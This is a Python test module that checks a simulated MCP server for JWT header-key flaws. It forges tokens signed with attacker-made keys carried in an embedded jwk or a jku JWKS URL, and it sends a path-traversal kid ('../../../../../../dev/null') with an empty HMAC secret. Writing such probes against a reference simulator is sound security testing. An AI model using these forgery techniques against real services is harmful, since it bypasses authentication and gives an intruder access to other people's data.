"""Probes for the JWT header-key defects (RFC 8725 §3.10): a token signed with an attacker key the
token itself names (embedded `jwk`, a `jku` JWKS, a `kid` file path) works at the MCP server.

Kept apart from `test_reference_defects.py`, which merges them into its tables.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable

from joserfc import jws
from joserfc.jwk import RSAKey

from simulators.reference import Defect, ReferenceConfig

from .as_probes import document_host
from .driver import Driver, b64url_json

D = Defect
Probe = Callable[[Driver], bool]


def _claims(d: Driver) -> str:
    now = int(time.time())
    claims = {"iss": d.server.issuer, "sub": "alice", "aud": d.server.mcp_url, "exp": now + 600}
    return json.dumps(claims | {"iat": now, "jti": "forged", "scope": "notes:read"})


def _accepted(d: Driver, token: str) -> bool:
    return d.rpc("initialize", {}, token=token).status_code == 200


def _signed(d: Driver, header: dict[str, object], key: RSAKey) -> str:
    registry = jws.JWSRegistry(algorithms=["RS256"])
    registry.max_header_length = 4096
    return jws.serialize_compact(header, _claims(d), key, registry=registry)


def _embedded_jwk(d: Driver) -> bool:
    key = RSAKey.generate_key(2048, parameters={"kid": "attacker"})
    header = {"alg": "RS256", "typ": "at+jwt", "jwk": key.as_dict(private=False)}
    return _accepted(d, _signed(d, header, key))


def _jku(d: Driver) -> bool:
    key = RSAKey.generate_key(2048, parameters={"kid": "attacker"})
    with document_host({"/jwks": {"keys": [key.as_dict(private=False)]}}) as origin:
        header = {"alg": "RS256", "typ": "at+jwt", "kid": "attacker", "jku": f"{origin}/jwks"}
        return _accepted(d, _signed(d, header, key))


def _kid_path(d: Driver) -> bool:
    header = b64url_json({"alg": "HS256", "typ": "at+jwt", "kid": "../../../../../../dev/null"})
    payload = b64url_json(json.loads(_claims(d)))
    mac = hmac.new(b"", f"{header}.{payload}".encode(), hashlib.sha256).digest()  # /dev/null
    signature = base64.urlsafe_b64encode(mac).rstrip(b"=").decode()
    return _accepted(d, f"{header}.{payload}.{signature}")


HEADER_KEY_PROBES: dict[Defect, Probe] = {
    D.JWT_HEADER_JWK_TRUSTED: _embedded_jwk,
    D.JWT_JKU_FOLLOWED: _jku,
    D.JWT_KID_PATH: _kid_path,
}

HEADER_KEY_GROUPS: list[tuple[ReferenceConfig, frozenset[Defect]]] = [
    (ReferenceConfig(), frozenset(HEADER_KEY_PROBES)),
]
